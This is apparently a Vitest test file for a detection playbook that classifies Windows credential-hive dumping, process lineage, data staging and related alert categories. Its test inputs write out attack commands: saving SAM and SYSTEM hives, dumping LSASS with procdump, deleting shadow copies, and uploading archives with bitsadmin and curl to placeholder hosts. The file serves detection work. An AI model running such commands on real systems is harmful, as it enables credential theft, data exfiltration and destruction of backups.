import { describe, expect, it } from 'vitest';
import { classifyLogonType, classifyProcess, isGenericWrapper, readLineage } from '../../playbooks/hive-dump/lineage.js';
import { classifyFileEvent, classifyStaging } from '../../playbooks/hive-dump/staging.js';
import { categoriesOf } from '../../playbooks/hive-dump/related.js';

const kinds = (cmd: string, name = 'cmd.exe') => classifyStaging({ process: { name, command_line: cmd } }).map((f) => f.kind);

describe('lineage', () => {
  it('classifies parents', () => {
    expect(classifyProcess('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -noP -sta -w 1 -enc SQBGAC')).toBe('encoded_powershell');
    expect(classifyProcess('C:\\Windows\\System32\\cscript.exe', 'cscript x.vbs')).toBe('script_host');
    expect(classifyProcess('C:\\Program Files\\AnyDesk\\AnyDesk.exe', null)).toBe('rmm_tool');
    expect(classifyProcess('C:\\Windows\\PSEXESVC.exe', null)).toBe('remote_execution');
    expect(classifyProcess('C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe" ')).toBe('interactive_shell');
    expect(classifyProcess('C:\\Program Files\\Veeam\\VeeamAgent.exe', null)).toBe('backup_agent');
    expect(classifyProcess(null, null)).toBe('unknown');
  });
  it('recognises generic wrappers', () => {
    expect(isGenericWrapper('C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe" /c "reg save HKLM\\SAM sam.hive"')).toBe(true);
    expect(isGenericWrapper('cmd.exe', null)).toBe(true);
    expect(isGenericWrapper('cmd.exe', '"C:\\Windows\\system32\\cmd.exe" ')).toBe(false);
    expect(isGenericWrapper('powershell.exe', 'powershell -c "reg save hklm\\sam c:\\x"')).toBe(true);
  });
  it('maps logon types', () => {
    expect(classifyLogonType('Interactive')).toBe('interactive');
    expect(classifyLogonType('RemoteInteractive')).toBe('remote_style');
    expect(classifyLogonType('Network')).toBe('remote_style');
    expect(classifyLogonType('Service')).toBe('service');
    expect(classifyLogonType(null)).toBe('unknown');
  });
  it('does not trust Sysmon user.id and reads the grandparent from the parent start event', () => {
    const event = { event: { dataset: 'windows.sysmon_operational' }, user: { id: 'S-1-5-18', name: 'IEUser' }, process: { parent: { executable: 'C:\\Windows\\System32\\cmd.exe', command_line: 'cmd.exe /c "reg save HKLM\\SAM s"', entity_id: 'p1', pid: 5 } } };
    const parent = { process: { entity_id: 'p1', executable: 'C:\\Windows\\System32\\cmd.exe', parent: { entity_id: 'g1', pid: 3912, executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', command_line: 'powershell' } } };
    const lineage = readLineage(event, parent, null);
    expect(lineage.userIdReliable).toBe(false);
    expect(lineage.serviceAccount).toBe(false);
    expect(lineage.genericWrapper).toBe(true);
    expect(lineage.grandparent?.entityId).toBe('g1');
    expect(lineage.grandparentKind).toBe('interactive_shell');
  });
});

describe('staging', () => {
  it('finds the real Panache staging commands', () => {
    expect(kinds('"C:\\Windows\\system32\\cmd.exe" /c "reg save HKLM\\System system.hive"')).toEqual(['system_export']);
    expect(kinds('"C:\\Windows\\system32\\cmd.exe" /c "rar a -r exfilthis.rar *.docx"')).toContain('archiving');
    expect(kinds('certutil.exe  -encode c:\\file.exe file.txt', 'certutil.exe')).toContain('transfer');
    expect(kinds('"C:\\Windows\\system32\\cmd.exe" /c "vssadmin.exe create shadow /for=C:"')).toContain('alternate_dump');
    expect(kinds('"C:\\Windows\\system32\\cmd.exe" /c "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Extract\\VSC_SYSTEM_HIVE"')).toEqual(['alternate_dump']);
    expect(kinds('"C:\\Windows\\system32\\cmd.exe" /c "procdump.exe -accepteula -ma lsass.exe lsass_dump.dmp"')).toContain('credential_tool');
    expect(kinds('"C:\\Windows\\system32\\cmd.exe" /c "vssadmin.exe delete shadows /all /quiet"')).toContain('deletion');
    expect(kinds('esentutl.exe  /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM', 'esentutl.exe')).toContain('alternate_dump');
    expect(kinds('diskshadow.exe  /s shadow.txt', 'diskshadow.exe')).toContain('alternate_dump');
  });
  it('finds archiving, share copies, transfer and deletion in constructions', () => {
    expect(kinds('7z.exe a C:\\Users\\Public\\h.7z C:\\Users\\Public\\s.hiv', '7z.exe')).toContain('archiving');
    expect(kinds('makecab C:\\t\\sam C:\\t\\sam.cab', 'makecab.exe')).toContain('archiving');
    expect(kinds('powershell Compress-Archive -Path C:\\t\\* -DestinationPath C:\\t\\a.zip', 'powershell.exe')).toContain('archiving');
    expect(kinds('cmd /c copy C:\\t\\sam \\\\10.0.0.5\\drop\\sam')).toContain('copy_to_share_or_removable');
    expect(kinds('robocopy C:\\t \\\\fs\\loot sam', 'robocopy.exe')).toEqual(expect.arrayContaining(['copy_to_share_or_removable', 'transfer']));
    expect(kinds('bitsadmin /transfer j /upload http://x/y C:\\t\\a.7z', 'bitsadmin.exe')).toContain('transfer');
    expect(kinds('curl.exe -F f=@C:\\t\\a.7z http://x', 'curl.exe')).toContain('transfer');
    expect(kinds('cmd /c del C:\\t\\sam C:\\t\\system')).toContain('deletion');
    expect(kinds('reg query HKLM\\Software', 'reg.exe')).toEqual([]);
  });
  it('classifies file events', () => {
    expect(classifyFileEvent({ file: { path: '\\\\fs\\drop\\s.hiv' }, event: { type: ['creation'] } }).map((f) => f.kind)).toEqual(['copy_to_share_or_removable']);
    expect(classifyFileEvent({ file: { path: 'C:\\t\\sam' }, event: { type: ['deletion'] } }).map((f) => f.kind)).toEqual(['deletion']);
    expect(classifyFileEvent({ file: { path: 'C:\\Windows\\Temp\\SYSTEM_HIVE' }, event: { type: ['creation'] } })).toEqual([]);
  });
});

describe('related alert categories', () => {
  it('reads the MITRE mapping, else the rule name', () => {
    expect(categoriesOf({ kibana: { alert: { rule: { threat: [{ tactic: { id: 'TA0008', name: 'Lateral Movement' } }] } } } })).toEqual(['lateral_movement']);
    expect(categoriesOf({ 'kibana.alert.rule.name': 'LSASS Memory Dump via Procdump' })).toEqual(['credential_access']);
    expect(categoriesOf({ 'kibana.alert.rule.name': 'Encrypting Files with WinRar or 7z' })).toEqual(['archiving']);
    expect(categoriesOf({ 'kibana.alert.rule.name': 'Unusual Network Connection' })).toEqual(['other']);
  });
});
